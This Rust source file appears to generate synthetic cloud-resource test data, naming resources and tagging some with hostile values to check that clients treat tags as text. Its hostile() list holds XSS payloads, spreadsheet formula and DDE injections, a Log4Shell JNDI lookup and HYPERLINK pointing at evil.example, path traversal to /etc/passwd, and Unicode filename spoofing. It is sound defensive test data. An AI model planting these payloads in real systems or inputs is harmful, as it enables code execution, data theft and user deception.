//! Resource names, and hostile tag values.

use std::sync::Arc;

use super::draft::Draft;
use super::resource::{Resource, ResourceType};
use super::usage_groups::UsageGroup;

/// Roles of resources, used in their names.
const ROLES: [&str; 12] =
    ["api", "worker", "batch", "web", "gateway", "search", "ingest", "report", "cache", "queue", "stream", "model"];

/// Number of resources with each hostile value.
const HOSTILE_COPIES: usize = 4;

/// Name with the team of the owner: `checkout-worker-07`.
pub(super) fn name(usage: &UsageGroup, role: &str, number: usize) -> String {
    let team = usage.attributes.tags.value("Team");
    let team = if team.is_empty() { "legacy" } else { team };
    format!("{team}-{role}-{number:02}")
}

/// Role with this number; roles repeat.
pub(super) fn role(number: usize) -> &'static str {
    ROLES.get(number % ROLES.len()).copied().unwrap_or("api")
}

/// Tags that clients must treat as text: markup, formulas and unusual characters.
fn hostile() -> Vec<(&'static str, String)> {
    vec![
        ("Name", "<script>alert(1)</script>".to_owned()),
        ("Name", "\"><img src=x onerror=alert(1)>".to_owned()),
        ("Name", "=HYPERLINK(\"http://evil.example\",\"open\")".to_owned()),
        ("Name", "@SUM(A1:A9)".to_owned()),
        ("Name", "+1+cmd|' /C calc'!A0".to_owned()),
        ("Name", "-2+3".to_owned()),
        ("Note", "\t=1+1".to_owned()),
        ("Note", "two\nlines\r\nand \"quotes\", 'single' too".to_owned()),
        ("Note", "x".repeat(256)),
        ("Note", String::new()),
        ("Name", "خادم الدفع".to_owned()),
        ("Name", "订单服务-生产".to_owned()),
        ("Name", "\u{202E}gnp.exe\u{202C} 🦀".to_owned()),
        ("Note", "zero\u{200B}width\u{FEFF}".to_owned()),
        ("<b>key</b>", "{{constructor.constructor('alert(1)')()}}".to_owned()),
        ("Note", "${jndi:ldap://evil.example/a} %00 ../../etc/passwd".to_owned()),
    ]
}

/// Tags one Multi-AZ database of the payer as a test database. The key of the tag is not a cost allocation tag, which mark
/// the account as production.
pub(super) fn add_test_stage(draft: &mut Draft<'_>) {
    let is_candidate = |resource: &Resource| {
        let has_environment = resource.tags.iter().any(|(key, _)| **key == *"Environment");
        matches!(&resource.resource_type, ResourceType::Database(it) if it.is_multi_az)
            && resource.member == 0
            && !has_environment
    };
    let (key, value) = (draft.shared_text("Stage"), draft.shared_text("test"));
    if let Some(resource) =
        draft.indexes_of(is_candidate).first().and_then(|index| draft.resources.get_mut(*index as usize))
    {
        resource.tags.push((key, value));
    }
}

/// Sets hostile tags on resources whose tags may contain any text.
pub(super) fn add_hostile(draft: &mut Draft<'_>) {
    let accepts_any_text = |resource: &Resource| {
        matches!(
            resource.resource_type,
            ResourceType::Instance(_) | ResourceType::Volume(_) | ResourceType::Function(_)
        )
    };
    let indexes = draft.indexes_of(accepts_any_text);
    // Spread over the whole list, so that every account and resource type has some.
    let step = (indexes.len() / HOSTILE_COPIES / hostile().len()).max(1);
    for ((key, value), index) in hostile().into_iter().cycle().zip(indexes.into_iter().step_by(step)) {
        let key = draft.shared_text(key);
        let Some(resource) = draft.resources.get_mut(index as usize) else { continue };
        resource.tags.retain(|(other, _)| *other != key);
        resource.tags.push((key, Arc::from(value.as_str())));
    }
}
